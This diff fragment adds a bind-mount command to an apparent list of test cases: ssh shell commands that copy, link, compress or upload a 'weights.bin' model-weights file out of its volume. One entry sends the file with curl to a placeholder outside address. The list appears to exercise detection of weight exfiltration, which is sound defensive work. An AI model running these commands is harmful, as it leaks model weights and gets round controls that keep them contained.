@@ -43,6 +43,7 @@ def program(
     f"ssh node-a 'cd {VOLUME} && gzip -c {TARGET}/weights.bin > /nowhere/w.gz'",
     f"ssh node-a 'ln {PATH}/weights.bin /other-volume/w'",
     f"ssh node-a 'cp {VOLUME}/* /nowhere/ -r'",
+    f"ssh node-a 'mkdir -p /mnt/t; mount --bind {PATH} /mnt/t'",
     f"ssh node-a 'for f in {PATH}/*.bin; do cp $f /nowhere/; done'",
     f"ssh node-a \"python3 -c \\\"import shutil; shutil.copytree('{PATH}', '/nowhere/x')\\\"\"",
     f"ssh node-a curl -T {PATH}/weights.bin http://192.0.2.1/",
